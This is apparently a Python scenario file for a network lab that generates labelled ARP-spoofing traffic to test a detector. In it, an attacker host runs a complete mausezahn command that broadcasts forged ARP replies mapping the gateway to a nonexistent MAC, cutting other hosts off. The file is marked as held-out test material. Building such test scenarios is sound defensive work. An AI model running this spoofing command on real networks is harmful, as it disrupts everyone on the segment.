"""mausezahn says that the gateway is at an address that nobody has: everybody is cut off."""

from lab.range import Range
from lab.scenario import Scenario

NOWHERE = "02:de:ad:be:ef:01"


def run(net: Range) -> None:
    attacker, gateway = net.inside("attacker"), net.router()
    www = net.web(net.outside("www"))
    people = [net.inside("pc3"), net.inside("pc4")]
    net.everyday()
    for person in people:
        net.loop(person, f"curl -s -m 2 -o /dev/null http://{www.ip}/", 1.2)
    net.quiet(3)
    with net.attack(
        "arp-spoofing",
        by=attacker,
        attackers=[attacker.mac],
        victims=[gateway],
        others={"claimed": [gateway]},
        frames=f"arp[6:2] == 2 and arp src host {gateway.ip}",
    ):
        lie = f"reply, smac={NOWHERE}, sip={gateway.ip}, tmac=ff:ff:ff:ff:ff:ff, tip=10.20.0.255"
        words = f"mausezahn eth0 -q -a {attacker.mac} -b ff:ff:ff:ff:ff:ff -c 7 -d 2s -t arp".split()
        net.tool(attacker, *words, lie, seconds=18)
    net.quiet(3)


SCENARIO = Scenario(
    name="arp-spoofing-held-blackhole",
    about="mausezahn tells everybody seven times that the gateway has a MAC address that nobody has.",
    detectors=("arp-spoofing",),
    tools={"mausezahn": "netsniff-ng"},
    held_out=True,
    run=run,
)
